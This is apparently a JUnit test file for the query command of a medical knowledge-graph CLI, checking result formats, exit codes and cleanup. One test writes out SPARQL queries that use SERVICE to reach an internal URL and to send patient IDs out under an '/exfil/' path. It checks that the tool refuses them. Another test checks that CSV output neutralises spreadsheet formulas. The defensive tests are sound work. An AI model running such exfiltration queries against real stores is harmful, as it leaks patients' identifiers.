package org.mcrckg.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code mcrc query} on the command line (docs/patient-record.md §3): a named query or a path to a
 * {@code .rq} file, over the example cohort or over the ontology alone, in each result format;
 * exit 0 when done, 1 for a query that does not parse ({@code query#syntax}), 2 for a query name
 * that does not exist ({@code query#not-found}). Runs {@link Main#execute} with string writers;
 * named queries come from the working tree's {@code queries/} ({@code -Dmcrc.queries}, as
 * {@code bin/mcrc} sets it).
 */
class QueryCommandTest {
    static final String ONTOLOGY = "ontology/mcrc.owl";
    static final String COHORT = "ontology/examples/cohort.csv";

    private static String savedQueries;

    @TempDir
    Path tmp;

    record Run(int code, String out, String err) {
        List<String> lines() { return out.lines().toList(); }
    }

    @BeforeAll
    static void useWorkingTreeQueries() {
        savedQueries = System.setProperty("mcrc.queries", "queries");
    }

    @AfterAll
    static void restore() {
        if (savedQueries == null) System.clearProperty("mcrc.queries");
        else System.setProperty("mcrc.queries", savedQueries);
    }

    static Run run(String... args) {
        StringWriter out = new StringWriter(), err = new StringWriter();
        int code = Main.execute(args, new PrintWriter(out, true), new PrintWriter(err, true));
        return new Run(code, out.toString(), err.toString());
    }

    static Run cohortSummary(String format) {
        return run("query", "cohort-summary", "--data", COHORT, "--format", format, "--ontology", ONTOLOGY);
    }

    @Test
    void cohortSummaryAsCsv() {
        Run r = cohortSummary("csv");
        assertEquals(0, r.code(), r.err());
        List<String> lines = r.lines();
        assertEquals("procedure,status,patients", lines.get(0));
        // exact counts are checked against golden rows by NamedQueriesTest; here: the CSV shape
        assertTrue(lines.stream().anyMatch(l -> l.matches("mdt_discussion,recommended,[1-9][0-9]*")), "G1 for patients with metastases: " + r.out());
        assertTrue(lines.size() > 21, "at least one row per procedure key: " + r.out());
    }

    @Test
    void cohortSummaryAsTsv() {
        Run r = cohortSummary("tsv");
        assertEquals(0, r.code(), r.err());
        List<String> lines = r.lines();
        assertEquals("?procedure\t?status\t?patients", lines.get(0));
        assertTrue(lines.get(1).startsWith("\"mdt_discussion\"\t\"recommended\"\t"), "rows in display order: " + lines.get(1));
    }

    @Test
    void cohortSummaryAsJson() throws IOException {
        Run r = cohortSummary("json");
        assertEquals(0, r.code(), r.err());
        JsonNode json = new ObjectMapper().readTree(r.out());
        List<String> vars = new ArrayList<>();
        json.path("head").path("vars").forEach(v -> vars.add(v.asText()));
        assertEquals(List.of("procedure", "status", "patients"), vars);
        JsonNode bindings = json.path("results").path("bindings");
        assertTrue(bindings.isArray() && bindings.size() > 21, r.out());
        JsonNode first = bindings.get(0);
        assertEquals("mdt_discussion", first.path("procedure").path("value").asText());
        assertEquals("http://www.w3.org/2001/XMLSchema#integer", first.path("patients").path("datatype").asText());
    }

    @Test
    void cohortSummaryAsTable() {
        Run r = cohortSummary("table");
        assertEquals(0, r.code(), r.err());
        String header = r.lines().stream().filter(l -> l.contains("procedure")).findFirst().orElse("");
        assertTrue(header.contains("status") && header.contains("patients"), "a header row: " + r.out());
        assertTrue(r.out().contains("\"mdt_discussion\"") && r.out().contains("\"recommended\""), r.out());
    }

    @Test
    void evidenceForProcedureNeedsNoData() {
        Run r = run("query", "evidence-for-procedure", "--format", "csv", "--ontology", ONTOLOGY);
        assertEquals(0, r.code(), r.err());
        List<String> lines = r.lines();
        assertTrue(lines.get(0).startsWith("procedure,rule,status,evidence,"), lines.get(0));
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("primary_tumour_resection,PT2-prime,not_recommended,E46,")), r.out());
    }

    @Test
    void queryGivenAsPathToRqFile() throws IOException {
        Path q = tmp.resolve("count-evidence.rq");
        Files.writeString(q, """
                PREFIX mcrc: <https://w3id.org/mcrc-kg/mcrc#>
                SELECT (COUNT(DISTINCT ?e) AS ?n)
                WHERE { GRAPH <https://w3id.org/mcrc-kg/graph/ontology> { ?e mcrc:evidenceId ?id } }
                """, StandardCharsets.UTF_8);
        Run r = run("query", q.toString(), "--format", "csv", "--ontology", ONTOLOGY);
        assertEquals(0, r.code(), r.err());
        assertEquals(List.of("n", "85"), r.lines(), "E01–E85");
    }

    @Test
    void namedQueryGivenAsPathInQueriesDirectory() {
        Run r = run("query", "queries/evidence-for-procedure.rq", "--format", "tsv", "--ontology", ONTOLOGY);
        assertEquals(0, r.code(), r.err());
        assertTrue(r.lines().get(0).startsWith("?procedure\t?rule\t?status\t?evidence"), r.out());
    }

    @Test
    void syntaxErrorExitsOneWithItsId() throws IOException {
        Path q = tmp.resolve("broken.rq");
        Files.writeString(q, "SELEC ?x WHERE { ?x ?p ?o ", StandardCharsets.UTF_8);
        Run r = run("query", q.toString(), "--data", COHORT, "--ontology", ONTOLOGY);
        assertEquals(1, r.code(), r.err());
        assertTrue(r.err().contains("query#syntax"), r.err());
        assertEquals("", r.out(), "nothing on stdout");
    }

    @Test
    void unknownQueryNameExitsTwo() {
        Run r = run("query", "no-such-query", "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("query#not-found"), r.err());
        assertTrue(r.err().contains("no-such-query"), r.err());
        assertFalse(r.out().contains("procedure"), r.out());
    }

    @Test
    void serviceIsRefusedAndNothingIsSent() throws Exception {
        try (java.net.ServerSocket listener = new java.net.ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
            listener.setSoTimeout(300);
            for (String text : List.of(
                    "SELECT ?x WHERE { SERVICE <http://127.0.0.1:" + listener.getLocalPort() + "/internal.json> { ?s ?p ?x } }",
                    "PREFIX mcrc: <https://w3id.org/mcrc-kg/mcrc#> SELECT ?id WHERE { ?p mcrc:patient_id ?id "
                            + "BIND(IRI(CONCAT('http://127.0.0.1:" + listener.getLocalPort() + "/exfil/', ENCODE_FOR_URI(?id))) AS ?u) SERVICE SILENT ?u { ?s ?q ?o } }")) {
                Path q = Files.writeString(tmp.resolve("service.rq"), text, StandardCharsets.UTF_8);
                Run r = run("query", q.toString(), "--data", "src/test/resources/vignettes/V01.csv", "--ontology", ONTOLOGY);
                assertEquals(2, r.code(), r.err());
                assertTrue(r.err().contains("[query#service-disabled]"), r.err());
                assertEquals("", r.out());
            }
            org.junit.jupiter.api.Assertions.assertThrows(java.net.SocketTimeoutException.class, listener::accept, "nothing connected");
        }
    }

    @Test
    void csvNeutralisesSpreadsheetFormulas() throws IOException {
        Path q = Files.writeString(tmp.resolve("formula.rq"), "SELECT ?a ?n ?ok WHERE { BIND('=1+2' AS ?a) BIND(-3 AS ?n) BIND('V01' AS ?ok) }", StandardCharsets.UTF_8);
        Run r = run("query", q.toString(), "--ontology", ONTOLOGY, "--format", "csv");
        assertEquals(0, r.code(), r.err());
        assertEquals(List.of("a,n,ok", "'=1+2,-3,V01"), r.out().lines().toList());
        Run tsv = run("query", q.toString(), "--ontology", ONTOLOGY, "--format", "tsv");
        assertTrue(tsv.out().contains("\"=1+2\""), "TSV writes RDF terms, quoted: " + tsv.out());
    }

    /**
     * {@code query --data} (a temporary store: direct file access, bounded caches) gives, byte for
     * byte, the rows of the same query over a store that {@code load} wrote (mapped files, batches
     * of patients) from the same example cohort.
     */
    @Test
    void dataGivesTheRowsOfTheSameQueryOverALoadedStore() {
        org.mcrckg.Mcrc m = org.mcrckg.Mcrc.load(Path.of(ONTOLOGY));
        try (org.mcrckg.store.PatientStore store = org.mcrckg.store.PatientStore.open(tmp.resolve("store"))) {
            store.load(m, List.of(Path.of(COHORT)), 2, org.mcrckg.store.PatientStore.Progress.NONE);
            for (String q : List.of("applicable-treatments", "cohort-summary", "cq09-inconsistent-patients", "cq10-fields-blocking-decisions",
                    "cq11-status-matrix-per-procedure")) {
                Run r = run("query", q, "--data", COHORT, "--format", "csv", "--ontology", ONTOLOGY);
                assertEquals(0, r.code(), r.err());
                java.io.ByteArrayOutputStream loaded = new java.io.ByteArrayOutputStream();
                org.mcrckg.query.QueryRunner.run(org.mcrckg.query.QueryCatalog.load(q), store.dataset(), org.mcrckg.query.ResultFormat.CSV, loaded);
                String expected = loaded.toString(StandardCharsets.UTF_8);
                assertTrue(expected.lines().count() > 1, q + " has rows over the example cohort");
                assertEquals(expected, r.out(), q);
            }
        }
    }

    /** The cohort of {@code --data} goes to a temporary store, which is deleted when the query is done. */
    @Test
    void theTemporaryStoreIsDeletedAfterTheQuery() throws java.io.IOException {
        java.util.Set<Path> before = temporaryStores();
        Run r = run("query", "applicable-treatments", "--data", "src/test/resources/vignettes/V01.csv", "--format", "csv", "--ontology", ONTOLOGY);
        assertEquals(0, r.code(), r.err());
        assertTrue(r.out().contains("V01,"), r.out());
        java.util.Set<Path> left = temporaryStores();
        left.removeAll(before);
        assertEquals(java.util.Set.of(), left, "temporary stores left behind");
    }

    private static java.util.Set<Path> temporaryStores() throws java.io.IOException {
        try (var s = java.nio.file.Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            return s.filter(p -> p.getFileName().toString().startsWith("mcrc-query-store-")).collect(java.util.stream.Collectors.toSet());
        }
    }
}
